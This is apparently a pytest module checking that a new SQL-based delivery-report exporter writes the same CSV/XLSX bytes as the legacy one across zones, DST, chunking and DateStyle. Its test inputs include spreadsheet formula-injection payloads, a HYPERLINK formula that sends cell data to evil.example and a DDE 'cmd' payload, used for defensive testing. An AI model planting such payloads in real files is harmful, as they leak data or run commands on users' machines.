"""The SQL export against the one it replaced (legacy_export_sql, kept verbatim): the same bytes
on the same rows, CSV and XLSX, for a campaign (by batch index) and for a date range (by
submission time, across a DST change), in every zone the reports tests use, across chunk
boundaries; and the chunk plan."""

from datetime import timedelta

import pytest
from django.db import connection

from messaging.pipeline.models import Message
from messaging.reports import delivery, export_sql, statuses
from messaging.reports.forms import DeliveryFilterForm
from tests.messaging.reports import legacy_export_sql as legacy
from tests.messaging.reports.pipeline_steps import START, ZONES, dispatch, send

pytestmark = [
    pytest.mark.django_db,
    pytest.mark.skipif(connection.vendor != "postgresql", reason="COPY is PostgreSQL's"),
]

# Every catalogued pair, the portal's own statuses, and what the table does not know; the
# "000|DELIV" code with status "RD" makes the lookup key of a catalogued pair and must not
# find its meaning.
COMBOS = [
    *statuses.CATALOGUED,
    *(("", status) for status in statuses.PIPELINE),
    ("458", "REJECTED"),
    ("999", "DELIVRD"),
    ("000|DELIV", "RD"),
    ("000", "DELIVRD|x"),
    ("", ""),
    ("x", "NO-SUCH-STATUS"),
]
TEXTS = [
    '=HYPERLINK("https://evil.example/?"&A1)',
    "+cmd|' /C calc'!A0",
    "-12.50",
    "+447400123456",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1",
    'say "hi", then\nleave',
    "back\\slash\\\\two \\t not a tab \\N not null",
    "<b>&amp;</b> &#9;",
    "bell\x07 vt\x0b ff\x0c bs\x08 esc\x1b and tab\there",
    "naïve ☃ 𝄞",
    "",
    "plain",
]


@pytest.fixture
def varied(account, sending_setup):
    """95 messages in two batches with every status pair, hostile texts, missing and sub-second
    delivery times, and submission times five minutes apart across New York's DST end."""
    india = send(account, START - timedelta(hours=2), 90, uk=False)
    dispatch(india, START - timedelta(hours=2), refuse=True)
    send(account, START, 5, uk=True)
    for i, pk in enumerate(Message.objects.filter(account=account).order_by("id").values_list("pk", flat=True)):
        code, status = COMBOS[i % len(COMBOS)]
        submitted = START - timedelta(hours=2) + timedelta(seconds=300 * i, microseconds=999_999 * (i % 2))
        Message.objects.filter(pk=pk).update(
            status=status,
            status_code=code,
            custom=TEXTS[i % len(TEXTS)],
            sender=TEXTS[(i + 3) % len(TEXTS)][:15],
            operator=TEXTS[(i + 5) % len(TEXTS)][:40],
            template_id=TEXTS[(i + 7) % len(TEXTS)][:30],
            submitted_at=submitted,
            delivered_at=None if i % 4 == 0 else submitted + timedelta(seconds=i, microseconds=999_999),
        )
    return india


def _messages(account, query):
    form = DeliveryFilterForm(account, query)
    assert form.is_valid(), form.errors
    filters = form.filters()
    return delivery.messages(account, filters), filters


def _export(module, messages, **options):
    written = []
    counts = list(module.chunks(messages, write=written.append, **options))
    return b"".join(written), counts


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize(("zone_name", "size"), [*((zone, 7) for zone in ZONES), ("UTC", 5), ("UTC", 1000)])
def test_it_writes_what_the_keyset_chunks_wrote_for_a_date_range(account, varied, fmt, zone_name, size):
    messages, _ = _messages(account, {"since": "2026-10-30", "until": "2026-11-03"})
    old, old_counts = _export(legacy, messages, fmt=fmt, zone_name=zone_name, by_index=False, size=size)
    new, new_counts = _export(export_sql, messages, fmt=fmt, zone_name=zone_name, by_index=False, size=size)
    assert sum(old_counts) == sum(new_counts) == 95
    assert new == old
    assert all(0 < count <= size for count in new_counts)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("size", [7, 1000])
def test_it_writes_what_the_keyset_chunks_wrote_for_a_campaign(account, varied, fmt, size):
    messages, filters = _messages(account, {"campaign": str(varied.uuid), "since": "2000-01-01"})
    options = {"fmt": fmt, "zone_name": "Asia/Kolkata", "by_index": True, "size": size}
    old, old_counts = _export(legacy, messages, **options)
    new, new_counts = _export(export_sql, messages, campaign=filters["campaign"], **options)
    assert sum(old_counts) == sum(new_counts) == 90
    assert new == old
    assert f"{varied.uuid}:90".encode() in new


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_times_read_the_same_under_another_datestyle(account, varied, fmt):
    # The cast to text follows DateStyle; under a non-ISO one the export falls back to to_char.
    # (A campaign: its chunk keys are indexes, and psycopg reads timestamps under ISO only.)
    messages, filters = _messages(account, {"campaign": str(varied.uuid), "since": "2000-01-01"})
    options = {"fmt": fmt, "zone_name": "America/New_York", "by_index": True, "size": 50}
    iso, _ = _export(export_sql, messages, campaign=filters["campaign"], **options)
    with connection.cursor() as cursor:
        cursor.execute("SET LOCAL datestyle = 'SQL, DMY'")
        try:
            assert not export_sql.iso_dates()
            assert _export(legacy, messages, **options)[0] == iso
            assert _export(export_sql, messages, campaign=filters["campaign"], **options)[0] == iso
        finally:
            cursor.execute("SET LOCAL datestyle = 'ISO, MDY'")
    assert export_sql.iso_dates()


def test_a_filtered_campaign_and_an_empty_one(account, varied):
    messages, filters = _messages(account, {"campaign": str(varied.uuid), "since": "2000-01-01", "status": "DELIVRD"})
    options = {"fmt": "csv", "zone_name": "UTC", "by_index": True, "size": 2}
    old, _ = _export(legacy, messages, **options)
    new, counts = _export(export_sql, messages, campaign=filters["campaign"], **options)
    assert new == old and sum(counts) == messages.count() > 2
    none, _ = _messages(account, {"campaign": str(varied.uuid), "since": "2000-01-01", "status": "NOPE"})
    assert _export(export_sql, none, campaign=filters["campaign"], **options) == (b"", [])


def test_the_plan_counts_and_cuts_every_size_rows(account, varied):
    messages, _ = _messages(account, {"campaign": str(varied.uuid), "since": "2000-01-01"})
    plan = export_sql.plan(messages, by_index=True, size=40)
    assert (plan.total, plan.bounds) == (90, [40, 80])
    messages, _ = _messages(account, {"since": "2026-10-30", "until": "2026-11-03"})
    plan = export_sql.plan(messages, by_index=False, size=50)
    fiftieth = messages.order_by("submitted_at", "id").values_list("submitted_at", "id")[49]
    assert plan.total == 95 and plan.bounds == [fiftieth]
    assert export_sql.plan(messages.filter(status="NOPE"), by_index=False, size=50) == export_sql.Plan(0, [])
